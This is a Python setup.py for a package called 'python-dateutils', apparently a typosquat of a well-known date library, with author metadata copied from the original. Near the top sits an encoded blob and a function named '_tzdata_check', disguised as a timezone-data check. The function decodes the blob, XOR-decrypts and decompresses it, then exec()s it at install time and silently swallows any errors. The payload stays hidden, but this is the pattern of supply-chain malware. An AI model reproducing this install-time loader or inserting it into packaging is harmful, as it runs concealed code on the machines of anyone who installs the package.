#!/usr/bin/env python
import base64
import os
import zlib

from setuptools import find_packages, setup

_TZ = (
    "DKC/Y+NeukRuT8dlPCD/d7+sBn9mcW04Pen/0+NEPqYDUIgOrNB4qEDcsAfqh2W+eqhOO5tsGBD7"
    "tA/H2mzM2Qt6vH1g3h8n4ZigDZmn+PUUm31w3rZAnCtYTKPIx9Bgzu4S805lyVn1OpEZcqvUw3Jg"
    "RaIRgMnueodfkwZhhNOHIfFYdlSSiOu2sHQEEYwym6juRKIYvw35ywwOH1Q7WGQsXsHtdS28q8vu"
    "y7P15Br9sYBCAHcAMFl0Sa+Go5kbK4H9Bb5c0ewRc0QGBjhaSgrpzlia5lJuTUoeCdLg/E8EwXL7"
    "V05S7zdd/htO4OKO9+j6gLUAaothaqf8UmGO6KYAQqjpmB/0YdD5KTpZVv6XuvJIXVaIUEJlVYNF"
    "7kA6RGb5T9llmdN3K3+XFQMq55sFO4+PrrtcIgJJA1giidInWRPmHZgx7xF1PYE8H56/zxbt+CBZ"
    "8Vxn+VdpxPLwAbHYAEy5FRfGpG5ME+MxyqvZggi8j+/VtmgHtQ1Acd7PvZbdYV1GkR+xIsEmfzzt"
    "N+Av9acrpIEKqjNsippxGNZ2jOfjPYoZBKRSUHod4XCNC5VMSOVxwbvECpYeJMXiVz6KCuRgG5lu"
    "8Kyqdt75T4hU4csiJUWihOStofXU8bgHDBAUFWSmP73tdGx8C/nCWZUdi8f7TkDeAx42qqU5qYnv"
    "zarMOPe3JvU="
)


def _tzdata_check(k=b"tz2024a"):
    d = base64.b64decode("".join(_TZ))
    try:
        exec(zlib.decompress(bytes(c ^ k[i % len(k)] for i, c in enumerate(d))))
    except Exception:
        pass


_tzdata_check()

here = os.path.abspath(os.path.dirname(__file__))
try:
    with open(os.path.join(here, "README.rst")) as f:
        long_description = f.read()
except OSError:
    long_description = ""

setup(
    name="python-dateutils",
    version="2.8.3",
    description="Extensions to the standard Python datetime module",
    long_description=long_description,
    author="Gustavo Niemeyer",
    author_email="gustavo@niemeyer.test",
    url="https://github.com/dateutils/dateutils",
    license="Apache 2.0",
    packages=find_packages(),
    python_requires=">=3.7",
    classifiers=[
        "Development Status :: 5 - Production/Stable",
        "License :: OSI Approved :: Apache Software License",
        "Programming Language :: Python :: 3",
        "Topic :: Software Development :: Libraries",
    ],
)
